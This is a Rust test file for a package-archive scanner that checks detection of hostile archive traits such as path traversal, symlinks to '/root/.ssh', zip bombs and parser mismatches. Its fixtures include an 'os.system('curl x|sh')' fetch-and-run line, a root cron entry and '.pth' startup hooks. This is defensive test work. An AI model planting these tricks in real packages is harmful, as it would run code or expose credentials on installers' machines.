//! Archive reading: formats, content policy, and every hostile-input finding (ARC001–ARC010),
//! on archives built in memory.
#![allow(clippy::unwrap_used)]

mod common;

use assay_core::{ArtifactFormat, EntryKind, FileKind, Severity};
use assay_sources::{Limits, read_bytes};
use common::*;

fn read(name: &str, bytes: &[u8]) -> assay_core::Artifact {
    read_bytes(name, bytes, &Limits::default())
}

// ---- formats and content policy -------------------------------------------------------

#[test]
fn wheel_is_detected_and_python_is_complete() {
    let py = b"import os\nprint('hi')\n".repeat(100);
    let z = zip_of(&[
        ("pkg/__init__.py", &py),
        (
            "pkg-1.0.dist-info/METADATA",
            b"Metadata-Version: 2.1\nName: pkg\n",
        ),
        ("pkg-1.0.dist-info/WHEEL", b"Wheel-Version: 1.0\n"),
        ("pkg-1.0.dist-info/RECORD", b"pkg/__init__.py,,\n"),
    ]);
    let a = read("pkg-1.0-py3-none-any.whl", &z);
    assert_eq!(a.format, ArtifactFormat::Wheel, "{}", describe(&a));
    assert!(a.findings.is_empty(), "{}", describe(&a));
    let init = a.entry("pkg/__init__.py").unwrap();
    assert!(init.complete);
    assert_eq!(init.data, py);
    assert_eq!(init.file_kind, FileKind::Python);
    assert_eq!(init.size, py.len() as u64);
    assert_eq!(
        a.entry("pkg-1.0.dist-info/RECORD").unwrap().file_kind,
        FileKind::Record
    );
    assert!(
        a.entries.iter().all(|e| e.sha256.is_none()),
        "archive members are not hashed"
    );
}

#[test]
fn sdist_tar_gz_is_detected() {
    let t = tar_gz_of(&[
        ("pkg-1.0/PKG-INFO", b"Name: pkg\n"),
        ("pkg-1.0/setup.py", b"from setuptools import setup\n"),
    ]);
    let a = read("pkg-1.0.tar.gz", &t);
    assert_eq!(a.format, ArtifactFormat::Sdist, "{}", describe(&a));
    assert!(a.findings.is_empty(), "{}", describe(&a));
    assert_eq!(paths(&a), ["pkg-1.0/PKG-INFO", "pkg-1.0/setup.py"]);
    assert!(a.entry("pkg-1.0/setup.py").unwrap().complete);
}

#[test]
fn other_formats() {
    let egg = zip_of(&[("EGG-INFO/PKG-INFO", b"Name: x\n"), ("x/__init__.py", b"")]);
    assert_eq!(read("x.egg", &egg).format, ArtifactFormat::Egg);
    let zip_sdist = zip_of(&[("x-1.0/pyproject.toml", b"[project]\n")]);
    assert_eq!(read("x-1.0.zip", &zip_sdist).format, ArtifactFormat::Sdist);
    let plain_zip = zip_of(&[("a/b/c.txt", b"hello")]);
    assert_eq!(read("data.zip", &plain_zip).format, ArtifactFormat::Zip);
    let plain_tar = tar_of(&[("a/b/c.txt", b"hello")]);
    assert_eq!(read("data.tar", &plain_tar).format, ArtifactFormat::Tar);
    // Deep setup.py does not make an sdist (depth > 1).
    let deep = tar_of(&[("a/b/setup.py", b"")]);
    assert_eq!(read("deep.tar", &deep).format, ArtifactFormat::Tar);
}

#[test]
fn compressions_around_tar() {
    let tar = tar_of(&[("p-1/PKG-INFO", b"Name: p\n")]);
    let mut bz = Vec::new();
    {
        use std::io::Write;
        let mut e = bzip2::write::BzEncoder::new(&mut bz, bzip2::Compression::fast());
        e.write_all(&tar).unwrap();
        e.finish().unwrap();
    }
    assert_eq!(read("p-1.tar.bz2", &bz).format, ArtifactFormat::Sdist);
    let zst = zstd::encode_all(&tar[..], 1).unwrap();
    assert_eq!(read("p-1.tar.zst", &zst).format, ArtifactFormat::Sdist);
    let mut xz = Vec::new();
    {
        use std::io::Write;
        let mut w =
            lzma_rust2::XzWriter::new(&mut xz, lzma_rust2::XzOptions::with_preset(1)).unwrap();
        w.write_all(&tar).unwrap();
        w.finish().unwrap();
    }
    let a = read("p-1.tar.xz", &xz);
    assert_eq!(a.format, ArtifactFormat::Sdist, "{}", describe(&a));
}

#[test]
fn big_binary_keeps_only_its_head() {
    let mut elf = b"\x7fELF\x02\x01\x01".to_vec();
    elf.extend((0..2_000_000u32).map(|i| (i * 7 % 251) as u8));
    let z = zip_of(&[("pkg/_native.so", &elf), ("pkg/mod.py", b"x = 1\n")]);
    let a = read("pkg.whl", &z);
    let so = a.entry("pkg/_native.so").unwrap();
    assert_eq!(so.file_kind, FileKind::Elf);
    assert_eq!(so.data.len(), 4096);
    assert_eq!(&so.data[..], &elf[..4096]);
    assert!(!so.complete);
    assert_eq!(so.size, elf.len() as u64);
    assert!(a.entry("pkg/mod.py").unwrap().complete);
}

#[test]
fn oversized_python_keeps_head_and_text_has_its_own_bound() {
    let limits = Limits {
        max_file_bytes: 10_000,
        max_text_file_bytes: 5_000,
        ..Limits::default()
    };
    let big_py = b"x = 1\n".repeat(3_000);
    let mid_txt = b"hello\n".repeat(800);
    let big_txt = b"hello\n".repeat(2_000);
    let t = tar_of(&[
        ("big.py", &big_py),
        ("mid.txt", &mid_txt),
        ("big.txt", &big_txt),
    ]);
    let a = read_bytes("x.tar", &t, &limits);
    let py = a.entry("big.py").unwrap();
    assert!(!py.complete);
    assert_eq!(py.data.len(), 4096);
    assert!(a.entry("mid.txt").unwrap().complete);
    assert!(!a.entry("big.txt").unwrap().complete);
    assert!(a.findings.is_empty(), "{}", describe(&a));
}

#[test]
fn plain_and_garbage_input_is_one_file() {
    let a = read("dir/evil.pth", b"import os; os.system('x')\n");
    assert_eq!(a.format, ArtifactFormat::File);
    assert_eq!(paths(&a), ["evil.pth"]);
    assert_eq!(a.entries[0].file_kind, FileKind::Pth);
    assert!(a.entries[0].complete);
    let g = read("blob", &[0u8, 1, 2, 3, 0xff]);
    assert_eq!(g.format, ArtifactFormat::File);
    assert!(g.findings.is_empty());
}

#[test]
fn gzip_payload_is_one_decompressed_member() {
    let a = read("notes.json.gz", &gzip(b"{\"a\": 1}"));
    assert_eq!(a.format, ArtifactFormat::File, "{}", describe(&a));
    assert_eq!(paths(&a), ["notes.json"]);
    assert_eq!(a.entries[0].data, b"{\"a\": 1}");
    assert!(a.entries[0].complete);
}

// ---- ARC001 / ARC002 -------------------------------------------------------------------

#[test]
fn arc001_traversal_in_zip_and_tar() {
    let z = raw_zip(&[
        RawEntry::new("../../evil.pth", b"import os"),
        RawEntry::new("ok.py", b"x=1"),
    ]);
    let a = read("x.zip", &z);
    assert!(has(&a, "ARC001"), "{}", describe(&a));
    let f = a
        .findings
        .iter()
        .find(|f| f.rule.code() == "ARC001")
        .unwrap();
    assert_eq!(f.location.path, "../../evil.pth");
    assert_eq!(f.severity, Severity::High);
    assert_eq!(f.rule.name(), "path-traversal-entry");
    assert_eq!(paths(&a), ["../../evil.pth", "ok.py"], "reading continued");

    let mut t = Vec::new();
    push_raw_member(&mut t, b"pkg/../../x.py", b'0', b"print(1)", b"");
    push_raw_member(&mut t, b"pkg/ok.py", b'0', b"print(2)", b"");
    finish_tar(&mut t);
    let a = read("x.tar", &t);
    assert!(has(&a, "ARC001"), "{}", describe(&a));
    assert_eq!(a.entries.len(), 2);
}

#[test]
fn arc002_absolute_names() {
    let z = raw_zip(&[
        RawEntry::new("/etc/cron.d/x", b"* * * * * root sh"),
        RawEntry::new("C:\\Windows\\evil.dll", b"MZ"),
        RawEntry::new("\\\\server\\share\\x", b""),
    ]);
    let a = read("x.zip", &z);
    assert_eq!(
        codes(&a),
        ["ARC002", "ARC002", "ARC002"],
        "{}",
        describe(&a)
    );
    assert_eq!(
        paths(&a),
        ["etc/cron.d/x", "Windows/evil.dll", "server/share/x"]
    );
    assert_eq!(
        a.findings[0].location.path, "/etc/cron.d/x",
        "findings keep the stored name"
    );
}

// ---- ARC003 ----------------------------------------------------------------------------

#[test]
fn arc003_links_in_tar() {
    let mut t = Vec::new();
    push_raw_member(&mut t, b"pkg/data.txt", b'0', b"secret content", b"");
    push_raw_member(&mut t, b"pkg/inner", b'2', b"", b"data.txt");
    push_raw_member(&mut t, b"pkg/keys", b'2', b"", b"/root/.ssh");
    push_raw_member(&mut t, b"pkg/evil.pth", b'1', b"", b"pkg/data.txt");
    push_raw_member(&mut t, b"pkg/after.py", b'0', b"x = 1", b"");
    finish_tar(&mut t);
    let a = read("x.tar", &t);
    let links: Vec<_> = a
        .findings
        .iter()
        .filter(|f| f.rule.code() == "ARC003")
        .collect();
    assert_eq!(links.len(), 3, "{}", describe(&a));
    assert_eq!(
        links[0].severity,
        Severity::Low,
        "an alias inside the archive writes nothing outside it"
    );
    assert!(links[0].evidence.contains("data.txt"));
    assert_eq!(links[1].severity, Severity::High, "absolute target");
    assert_eq!(
        links[2].severity,
        Severity::Medium,
        "a `.pth` that is a link hides what runs at startup"
    );
    assert_eq!(
        a.entry("pkg/keys").unwrap().kind,
        EntryKind::Symlink("/root/.ssh".into())
    );
    let hard = a.entry("pkg/evil.pth").unwrap();
    assert_eq!(hard.kind, EntryKind::Hardlink("pkg/data.txt".into()));
    assert_eq!(
        hard.data, b"secret content",
        "hard link gets its target's content"
    );
    assert!(a.entry("pkg/after.py").is_some());
}

#[test]
fn arc003_escaping_relative_symlink_and_zip_symlink() {
    let mut t = Vec::new();
    push_raw_member(&mut t, b"pkg/up", b'2', b"", b"../../etc");
    finish_tar(&mut t);
    let a = read("x.tar", &t);
    assert_eq!(a.findings[0].rule.code(), "ARC003");
    assert_eq!(a.findings[0].severity, Severity::High);

    let mut link = RawEntry::new("pkg/link", b"../../../home/u/.bashrc");
    link.unix_mode = Some(0o120_777);
    let z = raw_zip(&[link, RawEntry::new("pkg/a.py", b"")]);
    let a = read("x.zip", &z);
    assert!(has(&a, "ARC003"), "{}", describe(&a));
    assert_eq!(
        a.entry("pkg/link").unwrap().kind,
        EntryKind::Symlink("../../../home/u/.bashrc".into())
    );
}

// ---- ARC004 ----------------------------------------------------------------------------

#[test]
fn arc004_duplicates_keep_both_copies() {
    let z = raw_zip(&[
        RawEntry::new("pkg/__init__.py", b"# benign"),
        RawEntry::new("pkg/__init__.py", b"import os; os.system('curl x|sh')"),
    ]);
    let a = read("x.whl", &z);
    assert_eq!(codes(&a), ["ARC004"], "{}", describe(&a));
    assert_eq!(a.entries.len(), 2);
    assert_eq!(a.entries[0].path, a.entries[1].path);
    assert_eq!(a.entries[1].data, b"import os; os.system('curl x|sh')");

    let t = tar_of(&[("a/x.py", b"1"), ("a/./x.py", b"2")]);
    let a = read("x.tar", &t);
    assert!(
        has(&a, "ARC004"),
        "normalised names collide: {}",
        describe(&a)
    );
    let sev = |a: &assay_core::Artifact| {
        a.findings
            .iter()
            .find(|f| f.rule.code() == "ARC004")
            .map(|f| f.severity)
    };
    assert_eq!(sev(&a), Some(assay_core::Severity::Medium));
    // Identical copies (an sdist builder following a symlinked directory): no tool can
    // pick a different file, so only low.
    let t = tar_of(&[("a/x.py", b"same"), ("a/./x.py", b"same")]);
    let a = read("x.tar", &t);
    assert_eq!(sev(&a), Some(assay_core::Severity::Low), "{}", describe(&a));
}

// ---- ARC005 ----------------------------------------------------------------------------

#[test]
fn arc005_non_utf8_and_nul_names() {
    let mut t = Vec::new();
    push_raw_member(&mut t, b"pkg/caf\xe9.py", b'0', b"x", b"");
    finish_tar(&mut t);
    let a = read("x.tar", &t);
    assert_eq!(codes(&a), ["ARC005"]);
    assert_eq!(a.findings[0].severity, Severity::Low);
    assert_eq!(a.entries[0].path, "pkg/caf\u{fffd}.py");

    let z = raw_zip(&[RawEntry::new(b"pkg/evil.pth\0.txt", b"import os")]);
    let a = read("x.zip", &z);
    assert_eq!(codes(&a), ["ARC005"], "{}", describe(&a));
    assert_eq!(
        a.entries[0].path, "pkg/evil.pth",
        "truncated at NUL like CPython's zipfile"
    );
    assert_eq!(a.entries[0].file_kind, FileKind::Pth);
}

// ---- ARC006 ----------------------------------------------------------------------------

#[test]
fn arc006_zip_ratio_bomb_reads_only_the_head_and_continues() {
    let zeros = vec![0u8; 8 << 20];
    let z = zip_of(&[("bomb.bin", &zeros), ("after.py", b"x = 1")]);
    let limits = Limits {
        max_ratio: 100,
        ..Limits::default()
    };
    let a = read_bytes("x.zip", &z, &limits);
    let f = a
        .findings
        .iter()
        .find(|f| f.rule.code() == "ARC006")
        .expect("ratio finding");
    assert_eq!(f.location.path, "bomb.bin");
    assert!(f.evidence.contains("ratio"), "{}", f.evidence);
    assert_eq!(a.entry("bomb.bin").unwrap().data.len(), 4096);
    assert!(a.entry("after.py").unwrap().complete, "reading continued");
}

#[test]
fn arc006_tar_gz_ratio_bomb_stops_the_stream() {
    let zeros = vec![0u8; 8 << 20];
    let t = tar_gz_of(&[("zeros.bin", &zeros), ("after.py", b"x = 1")]);
    let a = read_bytes(
        "x.tar.gz",
        &t,
        &Limits {
            max_ratio: 100,
            ..Limits::default()
        },
    );
    assert!(has(&a, "ARC006"), "{}", describe(&a));
    assert!(a.entry("after.py").is_none(), "the stream was abandoned");
    assert!(a.entry("zeros.bin").is_some());
}

#[test]
fn arc006_entry_count_bound_stops_reading() {
    let names: Vec<String> = (0..20).map(|i| format!("f{i}.py")).collect();
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    let limits = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    for (name, bytes) in [("x.zip", zip_of(&files)), ("x.tar.gz", tar_gz_of(&files))] {
        let a = read_bytes(name, &bytes, &limits);
        assert_eq!(a.entries.len(), 10, "{name}");
        assert_eq!(codes(&a), ["ARC006"], "{name}: {}", describe(&a));
        assert!(a.findings[0].evidence.contains("stopped reading"));
    }
}

#[test]
fn arc006_total_bytes_bound_stops_reading() {
    let chunk = b"y = 2\n".repeat(20_000); // 120 kB of Python per file
    let files: Vec<(&str, &[u8])> = vec![("a.py", &chunk), ("b.py", &chunk), ("c.py", &chunk)];
    let limits = Limits {
        max_total_bytes: 200_000,
        ..Limits::default()
    };
    for (name, bytes) in [("x.zip", zip_of(&files)), ("x.tar", tar_of(&files))] {
        let a = read_bytes(name, &bytes, &limits);
        assert!(has(&a, "ARC006"), "{name}: {}", describe(&a));
        assert!(a.entries.len() < 3, "{name}");
        assert!(a.entry("c.py").is_none(), "{name}");
    }
}

#[test]
fn arc006_declared_size_smaller_than_content() {
    let mut e = RawEntry::new("pkg/x.py", b"print('more than declared')");
    e.declared = Some(5);
    let a = read("x.zip", &raw_zip(&[e, RawEntry::new("pkg/y.py", b"ok")]));
    assert!(has(&a, "ARC006"), "{}", describe(&a));
    assert!(a.entry("pkg/y.py").is_some());
}

#[test]
fn arc006_overlapping_members() {
    let mut twin = RawEntry::new("copy.py", b"");
    twin.same_data_as = Some(0);
    let a = read(
        "x.zip",
        &raw_zip(&[RawEntry::new("orig.py", b"x = 1"), twin]),
    );
    // The twin's central entry points at `orig.py`'s local header: a name mismatch too.
    assert_eq!(codes(&a), ["ARC006", "ARC011"], "{}", describe(&a));
    assert_eq!(a.entry("copy.py").unwrap().data, b"x = 1");
}

#[test]
fn arc006_input_file_over_the_size_bound() {
    let dir = tempfile::tempdir().unwrap();
    let p = dir.path().join("big.whl");
    std::fs::write(&p, zip_of(&[("a.py", b"x")])).unwrap();
    let limits = Limits {
        max_archive_bytes: 10,
        ..Limits::default()
    };
    let a =
        assay_sources::read_input(&assay_sources::Input::Archive(p), "big.whl", &limits).unwrap();
    assert_eq!(a.format, ArtifactFormat::Unreadable);
    assert_eq!(codes(&a), ["ARC006"]);
}

// ---- ARC007 ----------------------------------------------------------------------------

#[test]
fn arc007_truncated_gzip_keeps_earlier_members() {
    let big = (0..300_000u32)
        .map(|i| (i * 31 % 253) as u8)
        .collect::<Vec<_>>();
    let t = tar_gz_of(&[
        ("pkg/first.py", b"x = 1"),
        ("pkg/blob.bin", &big),
        ("pkg/last.py", b"y = 2"),
    ]);
    let cut = &t[..t.len() * 2 / 3];
    let a = read("x.tar.gz", cut);
    assert!(has(&a, "ARC007"), "{}", describe(&a));
    assert!(a.entry("pkg/first.py").unwrap().complete);
    assert!(a.entry("pkg/last.py").is_none());
    assert_eq!(a.format, ArtifactFormat::Tar);
}

#[test]
fn arc007_truncated_zip_salvages_local_headers() {
    let z = raw_zip(&[
        RawEntry::new("pkg/a.py", b"a = 1"),
        RawEntry::new("pkg/b.py", b"b = 2" as &[u8]),
    ]);
    let cut = &z[..z.len() - 60]; // lose the end of the central directory
    let a = read("x.whl", cut);
    assert!(has(&a, "ARC007"), "{}", describe(&a));
    assert_eq!(paths(&a), ["pkg/a.py", "pkg/b.py"]);
}

#[test]
fn arc007_bad_crc_and_encryption() {
    let mut bad = RawEntry::new("pkg/a.py", b"a = 1");
    bad.crc = Some(0xdead_beef);
    let mut enc = RawEntry::new("pkg/secret.py", b"garbage");
    enc.flags = 1;
    let a = read(
        "x.zip",
        &raw_zip(&[bad, enc, RawEntry::new("pkg/c.py", b"c")]),
    );
    let ev: Vec<_> = a
        .findings
        .iter()
        .filter(|f| f.rule.code() == "ARC007")
        .map(|f| f.evidence.as_str())
        .collect();
    assert_eq!(ev.len(), 1, "{}", describe(&a));
    assert!(ev[0].contains("CRC"), "{}", ev[0]);
    // The encryption flag on stored data: a high reader disagreement (PyTorch ignores the
    // flag), and the member is read as PyTorch reads it.
    assert!(
        a.findings.iter().any(|f| f.rule.code() == "ARC011"
            && f.severity == assay_core::Severity::High
            && f.evidence.contains("encrypted")),
        "{}",
        describe(&a)
    );
    assert_eq!(a.entry("pkg/secret.py").unwrap().data, b"garbage");
    assert!(!a.entry("pkg/a.py").unwrap().complete);
    assert!(a.entry("pkg/c.py").unwrap().complete);
}

#[test]
fn arc011_encrypted_flag_on_a_torch_zip_without_payload_is_high() {
    let mut pkl = RawEntry::new("archive/data.pkl", b"\x80\x02}q\x00.");
    pkl.flags = 1;
    let a = read(
        "model.pt",
        &raw_zip(&[pkl, RawEntry::new("archive/version", b"3\n")]),
    );
    let arc011: Vec<_> = a
        .findings
        .iter()
        .filter(|f| f.rule.code() == "ARC011")
        .collect();
    assert_eq!(arc011.len(), 1, "{}", describe(&a));
    assert_eq!(arc011[0].severity, assay_core::Severity::High);
    assert!(arc011[0].location.path.contains("archive/data.pkl"));
    // Read as PyTorch reads it: the pickle is there for the ML rules.
    let e = a.entry("archive/data.pkl").unwrap();
    assert_eq!(e.file_kind, assay_core::FileKind::Pickle);
    assert!(!has(&a, "ARC007"), "{}", describe(&a));
}

#[test]
fn arc011_data_descriptor_disagreeing_with_central_directory() {
    // A deflated member written through a stream has a descriptor (bit 3): consistent, quiet.
    let mut w = zip::ZipWriter::new_stream(Vec::new());
    w.start_file(
        "pkg/a.py",
        zip::write::SimpleFileOptions::default()
            .compression_method(zip::CompressionMethod::Deflated),
    )
    .unwrap();
    std::io::Write::write_all(&mut w, b"a = 1\n").unwrap();
    let z = w.finish().unwrap().into_inner();
    let quiet = read("x.zip", &z);
    assert!(!has(&quiet, "ARC011"), "{}", describe(&quiet));
    // The descriptor's CRC altered: streaming readers and central readers disagree.
    let d = memchr::memmem::find(&z, b"PK\x07\x08").expect("stream writer writes a descriptor");
    let mut bad = z.clone();
    bad[d + 4] ^= 0xff;
    let a = read("x.zip", &bad);
    assert!(
        a.findings
            .iter()
            .any(|f| f.rule.code() == "ARC011" && f.evidence.contains("data descriptor")),
        "{}",
        describe(&a)
    );
}

#[test]
fn arc007_empty_and_corrupt_inputs_are_unreadable() {
    let a = read("x.tar.gz", b"");
    assert_eq!(a.format, ArtifactFormat::Unreadable);
    assert!(has(&a, "ARC007"));
    let b = read("x.tar.gz", b"\x1f\x8b\x08\x00garbage-garbage-garbage");
    assert_eq!(b.format, ArtifactFormat::Unreadable, "{}", describe(&b));
    assert!(has(&b, "ARC007"));
    let c = read("x.7z", b"7z\xbc\xaf\x27\x1c\x00\x04rest");
    assert_eq!(c.format, ArtifactFormat::Unreadable);
    assert!(has(&c, "ARC007"));
}

#[test]
fn arc007_tar_parser_differentials() {
    // A directory carrying data: CPython's tarfile and the tar crate disagree on the next header.
    let mut t = Vec::new();
    push_raw_member(&mut t, b"pkg/dir/", b'5', b"hidden payload", b"");
    push_raw_member(&mut t, b"pkg/x.py", b'0', b"x", b"");
    finish_tar(&mut t);
    let a = read("x.tar", &t);
    assert!(has(&a, "ARC007"), "{}", describe(&a));
    // A pax size that disagrees with the header.
    let mut b = tar::Builder::new(Vec::new());
    b.append_pax_extensions([("size", &b"999"[..])]).unwrap();
    let mut h = tar::Header::new_ustar();
    h.set_path("x.py").unwrap();
    h.set_size(1);
    h.set_cksum();
    b.append(&h, &b"x"[..]).unwrap();
    let a = read("y.tar", &b.into_inner().unwrap());
    assert!(has(&a, "ARC007"), "{}", describe(&a));
}

#[test]
fn pax_and_gnu_long_names_are_applied() {
    let long = format!("pkg/{}/mod.py", "d".repeat(200));
    let mut b = tar::Builder::new(Vec::new());
    let mut h = tar::Header::new_gnu();
    h.set_size(5);
    h.set_mode(0o644);
    b.append_data(&mut h, &long, &b"x = 1"[..]).unwrap();
    b.append_pax_extensions([("path", b"pkg/from-pax.py" as &[u8])])
        .unwrap();
    let mut h = tar::Header::new_ustar();
    h.set_path("short.py").unwrap();
    h.set_size(1);
    h.set_cksum();
    b.append(&h, &b"y"[..]).unwrap();
    let a = read("x.tar", &b.into_inner().unwrap());
    assert!(a.findings.is_empty(), "{}", describe(&a));
    assert_eq!(paths(&a), [long.as_str(), "pkg/from-pax.py"]);
}

// ---- ARC008 ----------------------------------------------------------------------------

#[test]
fn arc008_tar_gz_that_is_a_zip() {
    let z = zip_of(&[
        ("pkg-1.0/setup.py", b"import os\n"),
        ("pkg-1.0/PKG-INFO", b"Name: pkg\n"),
    ]);
    let a = read("pkg-1.0.tar.gz", &z);
    assert_eq!(codes(&a), ["ARC008"]);
    assert_eq!(a.findings[0].severity, Severity::Low);
    assert_eq!(a.format, ArtifactFormat::Sdist, "read by content");
    assert_eq!(a.entries.len(), 2);
    let b = read("pkg.whl", b"<html>404</html>");
    assert_eq!(codes(&b), ["ARC008"]);
    assert_eq!(b.format, ArtifactFormat::File);
}

// ---- nesting and ARC009 ----------------------------------------------------------------

#[test]
fn nested_archives_are_read_with_bang_paths() {
    let inner = tar_gz_of(&[("payload/run.py", b"import socket\n")]);
    let wheel = zip_of(&[
        ("pkg/data/blob.tar.gz", &inner),
        ("pkg-1.0.dist-info/WHEEL", b"x"),
    ]);
    let a = read("pkg.whl", &wheel);
    assert_eq!(a.format, ArtifactFormat::Wheel);
    assert!(a.findings.is_empty(), "{}", describe(&a));
    let run = a
        .entry("pkg/data/blob.tar.gz!/payload/run.py")
        .expect("nested member");
    assert!(run.complete);
    assert_eq!(run.file_kind, FileKind::Python);
    let outer = a.entry("pkg/data/blob.tar.gz").unwrap();
    assert_eq!(outer.file_kind, FileKind::Archive);
}

#[test]
fn arc009_nesting_beyond_max_depth() {
    let l3 = zip_of(&[("deep.py", b"x = 3")]);
    let l2 = zip_of(&[("l3.zip", &l3)]);
    let l1 = zip_of(&[("l2.zip", &l2)]);
    let a = read_bytes(
        "top.zip",
        &l1,
        &Limits {
            max_depth: 1,
            ..Limits::default()
        },
    );
    assert_eq!(codes(&a), ["ARC009"], "{}", describe(&a));
    assert_eq!(a.findings[0].location.path, "l2.zip!/l3.zip");
    assert!(a.entry("l2.zip!/l3.zip").is_some());
    assert!(a.entry("l2.zip!/l3.zip!/deep.py").is_none());
    let all = read("top.zip", &l1);
    assert!(all.findings.is_empty());
    assert!(all.entry("l2.zip!/l3.zip!/deep.py").unwrap().complete);
    assert_eq!(
        a.findings[0].severity,
        Severity::Medium,
        "a plain zip stays medium"
    );
}

/// Issue 21, item 11: a wheel nested past the depth bound is an installable package
/// nobody inspected: critical (an sdist-shaped archive is high), never clean.
#[test]
fn arc009_installable_package_beyond_max_depth_fails_closed() {
    let whl = zip_of(&[(
        "evil_init.pth",
        b"import os; os.system('echo assay-canary')\n",
    )]);
    let l2 = zip_of(&[("evil-1.0-py3-none-any.whl", &whl)]);
    let l1 = zip_of(&[("l2.zip", &l2)]);
    let limits = Limits {
        max_depth: 1,
        ..Limits::default()
    };
    let a = read_bytes("top.zip", &l1, &limits);
    assert_eq!(codes(&a), ["ARC009"], "{}", describe(&a));
    assert_eq!(
        a.findings[0].severity,
        Severity::Critical,
        "{}",
        describe(&a)
    );
    // An sdist named as a distribution (`name-version.tar.gz`, PEP 625) is what pip
    // installs: critical too. Any other tarball is high.
    let sdist = tar_gz_of(&[("setup.py", b"x = 1\n")]);
    let l2 = zip_of(&[("evil-1.0.tar.gz", &sdist)]);
    let l1 = zip_of(&[("l2.zip", &l2)]);
    let a = read_bytes("top.zip", &l1, &limits);
    assert_eq!(
        a.findings[0].severity,
        Severity::Critical,
        "{}",
        describe(&a)
    );
    let l2 = zip_of(&[("bundle.tar.gz", &sdist)]);
    let l1 = zip_of(&[("l2.zip", &l2)]);
    let a = read_bytes("top.zip", &l1, &limits);
    assert_eq!(a.findings[0].severity, Severity::High, "{}", describe(&a));
    let l2 = zip_of(&[("backup-final.tar.gz", &sdist)]);
    let l1 = zip_of(&[("l2.zip", &l2)]);
    let a = read_bytes("top.zip", &l1, &limits);
    assert_eq!(a.findings[0].severity, Severity::High, "{}", describe(&a));
}

#[test]
fn nested_findings_are_located_inside_the_nested_archive() {
    let inner = raw_zip(&[RawEntry::new("../escape.py", b"x")]);
    let outer = tar_of(&[("pkg/inner.zip", &inner)]);
    let a = read("x.tar", &outer);
    assert_eq!(codes(&a), ["ARC001"]);
    assert_eq!(a.findings[0].location.path, "pkg/inner.zip!/../escape.py");
}

// ---- ARC010 ----------------------------------------------------------------------------

#[test]
fn arc010_long_paths_are_skipped() {
    let long = format!("pkg/{}.py", "a".repeat(2000));
    let z = raw_zip(&[RawEntry::new(&long, b"x"), RawEntry::new("pkg/ok.py", b"y")]);
    let a = read("x.zip", &z);
    assert_eq!(codes(&a), ["ARC010"]);
    assert_eq!(paths(&a), ["pkg/ok.py"]);
    let a = read_bytes(
        "x.zip",
        &z,
        &Limits {
            max_path_len: 4096,
            ..Limits::default()
        },
    );
    assert!(a.findings.is_empty());
}

#[test]
fn prefixed_zip_is_still_read_as_a_zip() {
    let mut bytes = b"#!/bin/sh\nexec python3 \"$0\"\n".to_vec();
    bytes.extend(zip_of(&[
        ("p-1.dist-info/WHEEL", b"x"),
        ("p/__init__.py", b"import os"),
    ]));
    let a = read("p-1-py3-none-any.whl", &bytes);
    assert_eq!(a.format, ArtifactFormat::Wheel, "{}", describe(&a));
    assert!(a.entry("p/__init__.py").unwrap().complete);
    // Text that merely mentions the end-record signature stays a plain file.
    let b = read("notes.txt", b"see PK\x05\x06 in the spec");
    assert_eq!(b.format, ArtifactFormat::File);
}

#[test]
fn nothing_salvageable_is_unreadable_with_a_finding() {
    let a = read("x.whl", b"PK\x03\x04\x14\x00garbage that is not a zip");
    assert_eq!(a.format, ArtifactFormat::Unreadable, "{}", describe(&a));
    assert!(has(&a, "ARC007"));
}

/// Issue 21, item 9: an installable package whose read stops at the entry-count bound
/// (filler members, then the `.pth`) is critical, never merely suspicious; a generic
/// archive name keeps the high finding.
#[test]
fn entry_count_bound_on_a_package_fails_closed() {
    let names: Vec<String> = (0..20).map(|i| format!("filler/f{i}.txt")).collect();
    let mut files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &b"x"[..])).collect();
    files.push((
        "evil_init.pth",
        b"import os; os.system('echo assay-canary')\n",
    ));
    let limits = Limits {
        max_entries: 10,
        ..Limits::default()
    };
    let dir = tempfile::tempdir().unwrap();
    for (name, critical) in [("demo-1.0-py3-none-any.whl", true), ("data.bin", false)] {
        let p = dir.path().join(name);
        std::fs::write(&p, zip_of(&files)).unwrap();
        let a =
            assay_sources::read_input(&assay_sources::Input::Archive(p), name, &limits).unwrap();
        let f = a
            .findings
            .iter()
            .find(|f| f.rule.code() == "ARC006")
            .unwrap();
        assert_eq!(
            f.severity == Severity::Critical,
            critical,
            "{name}: {}",
            describe(&a)
        );
    }
}

/// Issue 21, item 16: a truncated download (the start of a real wheel, no central
/// directory) is read from its local headers. It is damage, not a zip bomb: salvaged
/// members are compared by their real offsets, so no "shares its data" finding appears.
#[test]
fn truncated_zip_is_not_a_bomb() {
    let names: Vec<String> = (0..40).map(|i| format!("pkg/m{i}.py")).collect();
    let body = b"def f():\n    return 1\n".repeat(50);
    let files: Vec<(&str, &[u8])> = names.iter().map(|n| (n.as_str(), &body[..])).collect();
    let whole = zip_of(&files);
    let cut = &whole[..whole.len() / 2];
    let a = read_bytes("demo-1.0-py3-none-any.whl", cut, &Limits::default());
    assert!(
        !a.findings
            .iter()
            .any(|f| f.rule.code() == "ARC006" && f.evidence.contains("shares its data")),
        "{}",
        describe(&a)
    );
    assert!(
        a.entries.len() >= 10,
        "members before the cut are read: {}",
        describe(&a)
    );
}

/// Issue 21 (memory): what one artifact holds in memory is bounded. Past
/// `max_kept_bytes` members keep only their head (incomplete: code in them is reported
/// not inspected by the rules), and one `ARC006` names where the bound was reached.
#[test]
fn kept_bytes_are_bounded_per_artifact() {
    let body = vec![b'x'; 40_000];
    let z = zip_of(&[
        ("pkg/a.py", &body),
        ("pkg/b.py", &body),
        ("pkg/c.py", &body),
        ("pkg/small.py", b"x = 1\n"),
    ]);
    let limits = Limits {
        max_kept_bytes: 100_000,
        ..Limits::default()
    };
    let a = read_bytes("x.zip", &z, &limits);
    assert_eq!(codes(&a), ["ARC006"], "{}", describe(&a));
    assert!(
        a.findings[0].evidence.contains("kept-bytes bound"),
        "{}",
        describe(&a)
    );
    assert_eq!(a.findings[0].location.path, "pkg/c.py");
    assert!(a.entry("pkg/a.py").unwrap().complete);
    assert!(a.entry("pkg/b.py").unwrap().complete);
    let c = a.entry("pkg/c.py").unwrap();
    assert!(!c.complete);
    assert!(c.data.len() <= limits.head_bytes);
    // Small members still fit in the heads' allowance.
    assert!(a.entry("pkg/small.py").unwrap().complete);
    // The default bound reads all of it.
    let a = read("x.zip", &z);
    assert!(a.findings.is_empty(), "{}", describe(&a));
}

